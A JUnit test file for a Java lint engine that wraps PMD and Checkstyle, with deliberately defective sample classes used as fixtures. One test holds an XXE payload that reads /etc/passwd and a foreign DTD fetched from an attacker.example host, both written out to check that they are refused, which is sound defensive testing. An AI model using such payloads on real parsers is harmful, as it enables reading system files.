package dev.prharness.lint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.prharness.review.Finding;
import dev.prharness.review.Severity;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class LintEngineTest {

    private static final String RISKY = """
            package demo;

            import java.io.FileInputStream;
            import java.io.IOException;
            import java.util.List;

            public class Risky {
                private int unused;

                boolean same(String a, String b) {
                    return a == b;
                }

                void read() throws IOException {
                    FileInputStream in = new FileInputStream("x");
                    in.read();
                }

                void swallow() {
                    try {
                        read();
                    } catch (IOException e) {
                    }
                }

                List<String> names(boolean none) {
                    if (none) {
                        return null;
                    }
                    return List.of("a");
                }

                int kind(int k) {
                    int result = 0;
                    switch (k) {
                        case 1:
                            result = 1;
                        case 2:
                            result = 2;
                            break;
                    }
                    return result;
                }

                void local() {
                    int never = 42;
                }

                void all() {
                    try {
                        local();
                    } catch (Throwable t) {
                        throw new IllegalStateException(t);
                    }
                }

                void bestEffort() {
                    try {
                        read();
                    } catch (IOException e) {
                        // best effort: the cache is rebuilt on the next start
                    }
                    try {
                        read();
                    } catch (IOException ignored) {
                    }
                }
            }
            """;

    private static final String EQUALS_ONLY = """
            package demo;

            public class Point {
                int x;

                @Override
                public boolean equals(Object other) {
                    return other instanceof Point p && p.x == x;
                }
            }
            """;

    private final LintEngine engine = new LintEngine();

    @Test
    void theDefaultRulesFindTheDefectsAReviewerWouldFlag() {
        LintResult result = engine.lint(List.of(new SourceFile("src/demo/Risky.java", RISKY),
                new SourceFile("src/demo/Point.java", EQUALS_ONLY)), LintRules.defaults());

        Set<String> rules = result.findings().stream().map(Finding::rule).collect(Collectors.toSet());
        assertTrue(rules.containsAll(Set.of("EmptyCatchBlock", "UseEqualsToCompareStrings",
                "UnusedPrivateField", "UnusedLocalVariable", "AvoidCatchingThrowable",
                "ReturnEmptyCollectionRatherThanNull", "FallThrough", "EqualsHashCode")),
                "found: " + rules);
        assertTrue(rules.stream().noneMatch(Set.of("CloseResource", "MissingSwitchDefault", "CompareObjectsWithEquals")::contains),
                "rules that flag idioms more often than defects are not in the defaults: " + rules);
        assertEquals(1, result.findings().stream().filter(f -> f.rule().equals("EmptyCatchBlock")).count(),
                "a commented catch block and an exception named ignored are intentional");
        Finding emptyCatch = find(result, "EmptyCatchBlock");
        assertEquals("src/demo/Risky.java", emptyCatch.path());
        assertEquals(22, emptyCatch.line());
        assertEquals(Severity.WARNING, emptyCatch.severity());
        assertEquals("pmd", emptyCatch.source());
        Finding equalsHashCode = find(result, "EqualsHashCode");
        assertEquals("checkstyle", equalsHashCode.source());
        assertEquals("src/demo/Point.java", equalsHashCode.path());
        assertEquals(Severity.ERROR, equalsHashCode.severity());
        assertEquals(Severity.WARNING, find(result, "FallThrough").severity());
        assertEquals(2, result.filesLinted());
        assertTrue(result.failures().isEmpty(), result.failures().toString());
    }

    @Test
    void unchangedFilesComeFromTheCacheTheSecondTime() {
        List<SourceFile> files = List.of(new SourceFile("A.java", RISKY), new SourceFile("B.java", EQUALS_ONLY));
        LintResult first = engine.lint(files, LintRules.defaults());
        LintResult second = engine.lint(files, LintRules.defaults());
        assertEquals(0, first.cacheHits());
        assertEquals(2, second.cacheHits());
        assertEquals(first.findings(), second.findings());

        LintResult edited = engine.lint(List.of(new SourceFile("A.java", RISKY + "\n"), files.get(1)), LintRules.defaults());
        assertEquals(1, edited.cacheHits(), "only the edited file is linted again");
    }

    @Test
    void aFileThatDoesNotParseIsReportedAndTheOthersAreStillLinted() {
        LintResult result = engine.lint(List.of(new SourceFile("Broken.java", "class Broken { void f( }"),
                new SourceFile("Risky.java", RISKY)), LintRules.defaults());
        assertTrue(result.failures().stream().anyMatch(f -> f.path().equals("Broken.java")), result.failures().toString());
        assertTrue(result.findings().stream().anyMatch(f -> f.path().equals("Risky.java")));
    }

    @Test
    void concurrentReviewsLintSafely() throws Exception {
        LintResult expected = new LintEngine().lint(List.of(new SourceFile("A.java", RISKY)), LintRules.defaults());
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(4);
        List<java.util.concurrent.Future<LintResult>> results = new java.util.ArrayList<>();
        for (int i = 0; i < 8; i++) {
            String variant = RISKY + "\n// copy " + i + "\n";
            results.add(pool.submit(() -> engine.lint(List.of(new SourceFile("A.java", variant)), LintRules.defaults())));
        }
        for (java.util.concurrent.Future<LintResult> result : results) {
            LintResult r = result.get();
            assertTrue(r.failures().isEmpty(), r.failures().toString());
            assertEquals(expected.findings().stream().map(Finding::rule).toList(), r.findings().stream().map(Finding::rule).toList());
        }
        pool.shutdown();
    }

    @Test
    void onlyJavaFilesAreLinted() {
        LintResult result = engine.lint(List.of(new SourceFile("README.md", "# hi")), LintRules.defaults());
        assertEquals(0, result.filesLinted());
        assertTrue(LintEngine.canLint("a/B.JAVA"));
    }

    @Test
    void xmlEntitiesAndForeignDtdsAreRefused() {
        LintRules defaults = LintRules.defaults();
        String xxe = """
                <?xml version="1.0"?>
                <!DOCTYPE module PUBLIC "-//Checkstyle//DTD Checkstyle Configuration 1.3//EN" "x" [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
                <module name="Checker">&secret;</module>
                """;
        LintConfigException entity = assertThrows(LintConfigException.class,
                () -> new LintRules("evil.xml", xxe, defaults.pmdOrigin(), defaults.pmdXml()));
        assertTrue(entity.getMessage().contains("evil.xml") && entity.getMessage().contains("entit"), entity.getMessage());

        String foreignDtd = """
                <?xml version="1.0"?>
                <!DOCTYPE module SYSTEM "http://attacker.example/x.dtd">
                <module name="Checker"/>
                """;
        LintConfigException dtd = assertThrows(LintConfigException.class,
                () -> new LintRules("dtd.xml", foreignDtd, defaults.pmdOrigin(), defaults.pmdXml()));
        assertTrue(dtd.getMessage().contains("http://attacker.example/x.dtd"), dtd.getMessage());
    }

    @Test
    void aRulesetTheLinterRejectsFailsWithItsOriginAndReason() {
        LintRules defaults = LintRules.defaults();
        LintRules badPmd = new LintRules(defaults.checkstyleOrigin(), defaults.checkstyleXml(), "rules/pmd.xml", """
                <?xml version="1.0"?>
                <ruleset name="x" xmlns="http://pmd.sourceforge.net/ruleset/2.0.0">
                  <rule ref="category/java/errorprone.xml/NoSuchRule"/>
                </ruleset>
                """);
        LintConfigException e = assertThrows(LintConfigException.class, () -> engine.prepare(badPmd));
        assertTrue(e.getMessage().startsWith("rules/pmd.xml"), e.getMessage());

        LintRules badCheckstyle = new LintRules("rules/cs.xml", """
                <?xml version="1.0"?>
                <!DOCTYPE module PUBLIC "-//Checkstyle//DTD Checkstyle Configuration 1.3//EN"
                    "https://checkstyle.org/dtds/configuration_1_3.dtd">
                <module name="Checker"><module name="NoSuchCheck"/></module>
                """, defaults.pmdOrigin(), defaults.pmdXml());
        LintConfigException cs = assertThrows(LintConfigException.class, () -> engine.prepare(badCheckstyle));
        assertTrue(cs.getMessage().startsWith("rules/cs.xml") && cs.getMessage().contains("NoSuchCheck"), cs.getMessage());
    }

    private static Finding find(LintResult result, String rule) {
        return result.findings().stream().filter(f -> rule.equals(f.rule())).findFirst()
                .orElseThrow(() -> new AssertionError("no " + rule + " in " + result.findings()));
    }
}
